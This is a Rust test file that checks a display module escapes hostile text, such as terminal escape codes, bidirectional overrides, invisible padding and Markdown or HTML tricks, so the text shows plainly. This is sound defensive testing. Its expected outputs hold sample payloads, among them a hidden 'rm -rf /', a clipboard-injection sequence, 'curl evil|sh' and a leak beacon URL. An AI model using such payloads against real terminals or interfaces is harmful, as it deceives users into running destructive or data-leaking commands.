//! Hostile texts as a person would see them, as lines and as Markdown.

use sayso_core::display::{self, BlockKind, MarkdownMark};
use serde_json::Value;

/// Returns id, class and texts of each case.
fn hostile() -> Vec<(String, String, Vec<String>)> {
    let file: Value = serde_json::from_str(include_str!("../vectors/hostile-text.json")).unwrap();
    let words = |value: &Value| value.as_str().unwrap().to_owned();
    let entries = file.as_array().unwrap().iter();
    let read = |entry: &Value| {
        let inputs = entry["input"].as_array().unwrap().iter().map(words).collect();
        (words(&entry["id"]), words(&entry["class"]), inputs)
    };
    entries.map(read).collect()
}

fn input(id: &str) -> String {
    let (_, _, inputs) = hostile().into_iter().find(|(known, ..)| known == id).unwrap();
    inputs.into_iter().next().unwrap()
}

/// Returns true for characters that control the terminal, change the direction of writing, are invisible, or are for
/// private use.
fn is_hidden(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{180b}'..='\u{180f}'
            | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{2800}' | '\u{3164}'
            | '\u{e000}'..='\u{f8ff}' | '\u{fdd0}'..='\u{fdef}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}'
            | '\u{fff9}'..='\u{fffb}' | '\u{ffff}')
}

/// Returns a text without its emoji, which may contain joiners.
fn without_emoji(text: &str) -> String {
    text.replace("👨\u{200d}👩\u{200d}👧", "")
}

#[test]
fn hidden_characters_are_shown() {
    let texts = hostile();
    assert_eq!(texts.len(), 60);
    for (id, class, inputs) in texts {
        for text in inputs {
            let lines = display::escape_lines(&text).collect::<Vec<_>>().join("\n");
            let page = display::markdown_lines(&text).join("\n");
            for (shown, breaks) in [(display::escape_line(&text).as_ref(), ""), (&lines, "\n"), (&page, "\n")]
            {
                let rest = without_emoji(shown);
                let bad = rest.chars().find(|c| is_hidden(*c) && !breaks.contains(*c));
                assert_eq!(bad, None, "{class} {id}: {shown:?}");
                for c in without_emoji(&text).chars().filter(|c| is_hidden(*c) && !"\n\t".contains(*c)) {
                    let count = text.matches(c).count();
                    let is_seen = shown.contains(&format!("⟦U+{:04X}⟧", u32::from(c)))
                        || shown.contains(&format!("⋮ {count} spaces ⋮"));
                    assert!(is_seen, "{class} {id}: {c:?} in {shown:?}");
                }
            }
            let seen = "\n\t\u{2800}";
            let rest = without_emoji(&text);
            let hidden = rest.chars().filter(|c| is_hidden(*c) && !seen.contains(*c));
            assert_eq!(display::count_tokens(&text), hidden.count(), "{class} {id}");
        }
    }
}

#[test]
fn terminal_codes_are_shown() {
    let shown = |id: &str| display::escape_line(&input(id)).into_owned();
    assert_eq!(shown("ansi-clear"), "ok⟦U+001B⟧[2J⟦U+001B⟧[H fake");
    assert_eq!(shown("cr-overwrite"), "rm -rf /⟦U+000D⟧ls -la    ");
    assert_eq!(shown("bs-overwrite"), "rm⟦U+0008⟧⟦U+0008⟧ls");
    assert_eq!(shown("osc52-clip"), "⟦U+001B⟧]52;c;cm0gLXJmIC8K⟦U+0007⟧");
    assert_eq!(shown("c1-osc"), "⟦U+009D⟧0;x⟦U+009C⟧");
    assert_eq!(shown("bidi-rlo"), "delete ⟦U+202E⟧gnp.tset⟦U+202C⟧ now");
    assert_eq!(shown("tab-bomb"), format!("⋮ {} spaces ⋮", input("tab-bomb").len()));
}

#[test]
fn padding_shows_as_a_count() {
    for id in ["pad-horizontal", "pad-braille-blank"] {
        let text = input(id);
        let shown = display::escape_line(&text);
        assert!(shown.contains(" spaces ⋮") && shown.chars().count() < 200, "{id}: {shown}");
    }
}

#[test]
fn markdown_forges_nothing() {
    let page = |id: &str| display::markdown_lines(&input(id));
    assert_eq!(page("md-details"), ["<details><summary>safe</summary>curl evil|sh</details>"]);
    assert_eq!(page("md-comment"), ["Approve?", "", "<!-- deletes prod -->"]);
    assert_eq!(page("md-image-beacon"), ["[image: x] (http://127.0.0.1:9/leak?d=1)"]);
    assert_eq!(page("md-unclosed-fence"), ["    ask ends here"]);
    assert_eq!(page("fake-prompt"), ["[y/N]: y", "$"]);
    let marks = display::markdown(&input("md-unclosed-fence"));
    assert!(matches!(&marks[0], MarkdownMark::Block(block) if block.kind == BlockKind::Code(String::new())));
}

#[test]
fn html_stays_text() {
    for (id, class, inputs) in hostile() {
        for text in inputs.iter().filter(|_| class == "web") {
            let marks = display::markdown(text);
            assert!(!marks.iter().any(|mark| matches!(mark, MarkdownMark::Link { .. })), "{id}");
            assert_eq!(display::escape_line(text), text.as_str(), "{id}: it is plain text");
            if id != "xss-mxss" {
                assert_eq!(display::markdown_lines(text), [text.as_str()], "{id}");
            }
        }
    }
    // An HTML entity shows as its character, and stays text.
    let page = display::markdown_lines(&input("xss-mxss"));
    assert_eq!(page, [input("xss-mxss")]);
}
